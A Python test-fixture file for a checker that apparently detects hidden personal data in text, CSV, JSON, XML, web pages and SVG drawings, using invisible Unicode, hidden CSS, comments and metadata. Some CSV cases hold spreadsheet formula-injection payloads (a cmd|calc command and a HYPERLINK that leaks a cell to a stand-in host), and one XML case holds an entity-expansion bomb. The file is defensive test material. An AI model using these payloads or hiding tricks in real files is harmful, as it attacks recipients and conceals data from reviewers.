"""Plain text, tables, JSON, XML, web pages and drawings."""
import json

from corpus import case

SECRET = "Sam Specimen lives at 12 Made-up Lane"
TABLE = "name,telephone,change\nAlex Example,+44 20 7946 0000,-5\nKim Sample,(020) 7946 0001,-1.5%\n"


def zero_width(text, nought="\u200b", one="\u200c"):
    return "".join(one if bit == "1" else nought for c in text for bit in f"{ord(c):08b}")


def tags(text):
    return "".join(chr(0xE0000 + ord(c)) for c in text)


def variations(text):
    return "".join(chr(0xFE00 + b) if b < 16 else chr(0xE0100 + b - 16) for b in text.encode())


def page(body, head=""):
    return (f"<!DOCTYPE html><html><head><title>Answer</title>{head}</head><body><h1>Our answer</h1>"
            f"<p>Dear Alex Example, thank you.</p>{body}</body></html>").encode()


def drawing(body, attributes=""):
    return (f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 400 300" {attributes}>'
            f'<text x="20" y="30">Requests by month</text>{body}</svg>').encode()


def shown(name, body, **more):
    return case(name, lambda: page(body, **more), keeps=["thank you"])


def hidden(name, kind, body, text=SECRET, head="", **more):
    return case(name, lambda: page(body, head), finds=[(kind, "line", text)], keeps=["thank you"], **more)


PIXEL = ("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")

TEXT = [
    case("plain.txt", lambda: b"Dear Alex Example,\r\n\r\nThank you.\r\n"),
    case("accents.txt", lambda: "café, naïve, £5\n".encode("latin-1")),
    case("utf16.txt", lambda: "Dear Alex Example, café\r\n".encode("utf-16")),
    case("bom.txt", lambda: b"\xef\xbb\xbfDear Alex\n"),
    case("joined.txt", lambda: "café\n".encode("latin-1") + "naïve £\n".encode()),
    case("emoji.txt", lambda: "Family 👨‍👩‍👧, flag 🏴󠁧󠁢󠁥󠁮󠁧󠁿, heart ❤️\n".encode()),
    case("persian.txt", lambda: "می‌خواهم نامه‌ها\n".encode()),
    case("hebrew.txt", lambda: "שלום \u200fAlex\u200e עולם\n".encode()),
    case("hyphens.txt", lambda: "in\u00adfor\u00adma\u00adtion\n".encode()),
    case("trailing-lines.txt", lambda: b"Dear Alex\n" + b"\n" * 300),
    case("dos-end.txt", lambda: b"Dear Alex\r\n\x1a"),
    case("zero-width.txt", lambda: f"Dear Alex{zero_width('Sam Specimen')} Example\n".encode(),
         finds=[("unicode.invisible", "line 1", "Sam Specimen")]),
    case("tags.txt", lambda: f"Dear\nAlex{tags(SECRET)}\n".encode(), finds=[("unicode.invisible", "line 2", SECRET)]),
    case("variations.txt", lambda: f"Dear A{variations(SECRET)}lex\n".encode(), finds=[("unicode.invisible", "line 1", SECRET)]),
    case("override.txt", lambda: "Pay \u202eelpmaxE mas\u202c now\n".encode(), finds=[("unicode.bidi", "line 1", "elpmaxE mas")],
         secrets=["\u202e"]),
    case("nul.txt", lambda: f"Dear Alex\n\0{SECRET}\nYours\n".encode(), finds=[("control.nul", "line 2", SECRET)]),
    case("end-of-file.txt", lambda: f"Dear Alex\n\x1a{SECRET}\n".encode(), finds=[("control.nul", "line 2", SECRET)]),
    case("conceal.txt", lambda: f"Dear \x1b[8m{SECRET}\x1b[0m Alex\n".encode(), finds=[("control.nul", "line 1", SECRET)]),
    case("return.txt", lambda: f"Dear\n{SECRET}\rThank you very much for your request of March\nYours\n".encode(),
         finds=[("control.nul", "line 2", SECRET)]),
    case("wide-part.txt", lambda: b"Dear Alex\n" + SECRET.encode("utf-16-le") + b"\nYours\n",
         finds=[("encoding.mixed", "line 2", SECRET)]),
    case("narrow-part.txt", lambda: "Dear Alex\n".encode("utf-16") + (SECRET + " ").encode() + "Yours\n".encode("utf-16-le"),
         finds=[("encoding.mixed", "line", "Sam Specimen")]),
    case("ebcdic-part.txt", lambda: b"Dear Alex\n" + SECRET.encode("cp037") + b"\nYours\n",
         finds=[("encoding.mixed", "line 2", "Sam Specimen")]),
    case("far-below.txt", lambda: f"Dear Alex\n{chr(10) * 2000}{SECRET}\n".encode(), finds=[("cell.far", "line 2002", SECRET)]),
    case("far-right.txt", lambda: f"Dear Alex{' ' * 2000}{SECRET}\n".encode(), finds=[("cell.far", "line 1", SECRET)]),
]

TABLES = [
    case("plain.csv", lambda: TABLE.encode(), keeps=["+44 20 7946 0000"]),
    case("dashes.csv", lambda: b"item,note\n-,- see below\n=,+\nA,-N/A\nB,@example\nC,--\n"),
    case("long.csv", lambda: "".join(f"{i},{i * i}\n" for i in range(5000)).encode(), damage=False),
    case("semicolons.csv", lambda: TABLE.replace(",", ";").encode()),
    case("formula.csv", lambda: (TABLE + '"=HYPERLINK(""http://example.org/""&A2)",x,1\n').encode(),
         finds=[("formula.injection", "A4", "=HYPERLINK")], secrets=[]),
    case("command.csv", lambda: (TABLE + "a,-2+3+cmd|' /C calc'!A0,@SUM(A1:A9)\n").encode(),
         finds=[("formula.injection", "B4", "cmd|"), ("formula.injection", "C4", "@SUM")], clean=True),
    case("formula.tsv", lambda: b"name\tcount\nAlex\t=1+1\n", finds=[("formula.injection", "B2", "=1+1")]),
    case("far-row.csv", lambda: (TABLE + "\n" * 3000 + SECRET + ",1\n").encode(), finds=[("cell.far", "A3004", SECRET), ("cell.far", "B3004", "1")],
         secrets=[]),
    case("far-column.csv", lambda: (TABLE + "," * 500 + SECRET + "\n").encode(), finds=[("cell.far", "4", SECRET)]),
    case("far-inside.csv", lambda: (TABLE + f'"Kim{" " * 500}{SECRET}",1,2\n').encode(), finds=[("cell.far", "A4", SECRET)]),
    case("nul.csv", lambda: (TABLE + f"Kim\0{SECRET},1\n").encode(), finds=[("control.nul", "line 4", SECRET)]),
    case("zero-width.csv", lambda: (TABLE + f"Kim{zero_width('Sam Specimen')},1,2\n").encode(),
         finds=[("unicode.invisible", "A4", "Sam Specimen")]),
]

DATA = [
    case("plain.json", lambda: json.dumps({"name": "Alex café", "_id": 4, "list": [1, 2.5, None, True]}).encode(),
         keeps=["Alex"]),
    case("twice.json", lambda: f'{{"name": "{SECRET}", "name": "Alex"}}'.encode(), finds=[("json.duplicate", "name", SECRET)]),
    case("escaped.json", lambda: ('{"note": "' + "".join(f"\\u{ord(c):04x}" for c in SECRET) + '"}').encode(),
         finds=[("json.escaped", "note", SECRET)]),
    case("private.json", lambda: json.dumps({"a": {"_internal": SECRET, "b": 1}}).encode(),
         finds=[("json.escaped", "a._internal", SECRET)]),
    case("trailing.json", lambda: b'{"a": 1}\n' + SECRET.encode(), finds=[("trailing.data", "line", SECRET)]),
    case("plain.xml", lambda: b"<?xml version='1.0'?><answer ref='1'><p>Dear Alex</p></answer>"),
    case("comment.xml", lambda: f"<?xml version='1.0'?><a><!-- {SECRET} --><p>Dear</p></a>".encode(),
         finds=[("html.comment", "/a", SECRET)]),
    case("instruction.xml", lambda: f"<?xml version='1.0'?><a><?note {SECRET}?><p>Dear</p></a>".encode(),
         finds=[("html.comment", "/a", SECRET)]),
    case("entity-bomb.xml", lambda: b"<!DOCTYPE a [<!ENTITY b 'x'><!ENTITY c '&b;&b;'>]><a>&c;</a>",
         finds=[("refuse.bomb", "line", "")], damage=False, clean=False),
]

PAGES = [
    shown("plain.html", "<p>All of it is seen.</p>"),
    shown("dark.html", "<div style='background:#003;color:white'><p>White on dark</p></div>"),
    shown("dark-class.html", "<p class=k>White on dark</p>", head="<style>.k{color:#fff;background-color:navy}</style>"),
    shown("print.html", "<p class=k>Only not on paper</p>", head="<style>@media print{.k{display:none}}</style>"),
    shown("conditional.html", "<!--[if mso]><style>p{margin:0}</style><![endif]--><p>Seen</p>"),
    shown("empty.html", "<div style='display:none'></div><input type=hidden name=a value=''>"),
    shown("picture.html", f"<img src='{PIXEL}' alt='Bar chart of requests by month'>"),
    shown("link.html", "<a href='https://www.example.org/foi' title='Our pages'>Our pages</a>"),
    shown("over-picture.html", "<div style='background:url(#x)'><p style='color:white'>On a picture</p></div>"),
    hidden("none.html", "text.hidden", f"<p style='display:none'>{SECRET}</p>"),
    hidden("class.html", "text.hidden", f"<div class='a b'><p>{SECRET}</p></div>", head="<style>div.a.b > p {display: none}</style>"),
    hidden("visibility.html", "text.hidden", f"<p style='visibility:hidden'>{SECRET}</p>"),
    hidden("attribute.html", "text.hidden", f"<p hidden>{SECRET}</p>"),
    hidden("template.html", "text.hidden", f"<template><p>{SECRET}</p></template>"),
    hidden("white.html", "text.samecolour", f"<p style='color:#fefefe'>{SECRET}</p>"),
    hidden("font.html", "text.samecolour", f"<table><tr bgcolor=black><td><font color=black>{SECRET}</font></td></tr></table>"),
    hidden("opacity.html", "text.invisible", f"<p style='opacity:0'>{SECRET}</p>"),
    hidden("transparent.html", "text.invisible", f"<p style='color:rgba(0,0,0,0)'>{SECRET}</p>"),
    hidden("tiny.html", "text.tiny", f"<p style='font-size:1px'>{SECRET}</p>"),
    hidden("off.html", "text.offpage", f"<p style='position:absolute;left:-9999px'>{SECRET}</p>"),
    hidden("indent.html", "text.offpage", f"<p style='text-indent:-9999px'>{SECRET}</p>"),
    hidden("clipped.html", "text.clipped", f"<div style='height:0;overflow:hidden'>{SECRET}</div>"),
    hidden("comment.html", "html.comment", f"<!-- {SECRET} -->"),
    hidden("field.html", "form.hidden", f"<form><input type=hidden name=who value='{SECRET}'></form>"),
    hidden("block.html", "script.data", f"<script type='application/json'>{{\"who\": \"{SECRET}\"}}</script>"),
    hidden("script.html", "script.data", f"<script>var who = '{SECRET}';</script>"),
    hidden("data.html", "script.data", f"<p data-who='{SECRET}'>Kim</p>"),
    hidden("author.html", "meta.core", "", head="<meta name=author content='Sam Specimen'>", text="Sam Specimen"),
    hidden("alt.html", "alttext", f"<img src='{PIXEL}' alt='{SECRET}, telephone 01632 960123'>"),
    hidden("path.html", "hyperlink.path", "<a href='file:///C:/Users/sam.specimen/list.xlsx'>List</a>", text="sam.specimen"),
    hidden("tracker.html", "link.external", "<img src='http://tracker.example.org/p?id=sam'>", text="tracker.example.org"),
]

DRAWINGS = [
    case("plain.svg", lambda: drawing("<rect x='20' y='40' width='100' height='50' fill='#369'/>"
                                      "<text x='30' y='70' fill='white'>12 in May</text>"), keeps=["12 in May"]),
    case("generator.svg", lambda: b"<!-- Generator: Some Program 1.0 -->" + drawing("<title>Chart</title>")),
    case("none.svg", lambda: drawing(f"<text x='20' y='60' display='none'>{SECRET}</text>"),
         finds=[("svg.display_none", "text", SECRET)]),
    case("style.svg", lambda: drawing(f"<style>.k{{visibility:hidden}}</style><g class='k'><text x='20' y='60'>{SECRET}</text></g>"),
         finds=[("svg.display_none", "text", SECRET)]),
    case("white.svg", lambda: drawing(f"<text x='20' y='60' fill='#fff'>{SECRET}</text>"), finds=[("svg.display_none", "text", SECRET)]),
    case("outside.svg", lambda: drawing(f"<text x='900' y='60'>{SECRET}</text>"), finds=[("svg.display_none", "text", SECRET)]),
    case("unused.svg", lambda: drawing(f"<defs><g id='a'><text>{SECRET}</text></g></defs>"),
         finds=[("svg.display_none", "text", SECRET)]),
    case("covered.svg", lambda: drawing(f"<text x='20' y='60'>{SECRET}</text><rect x='10' y='40' width='380' height='30'/>"),
         finds=[("svg.under_rect", "text", SECRET)]),
    case("covered-by-path.svg", lambda: drawing(f"<g transform='translate(10,20)'><text x='20' y='60'>{SECRET}</text></g>"
                                                "<path d='M0 50 h400 v50 h-400 z' fill='#000'/>"),
         finds=[("svg.under_rect", "text", SECRET)]),
    case("comment.svg", lambda: drawing(f"<!-- {SECRET} -->"), finds=[("svg.comment", "svg", SECRET)]),
    case("metadata.svg", lambda: drawing(f"<metadata><note>{SECRET}</note></metadata>"), finds=[("svg.metadata", "note", SECRET)]),
    case("description.svg", lambda: drawing(f"<desc>{SECRET}, telephone 01632 960123</desc>"),
         finds=[("svg.metadata", "desc", SECRET)]),
]

CASES = TEXT + TABLES + DATA + PAGES + DRAWINGS
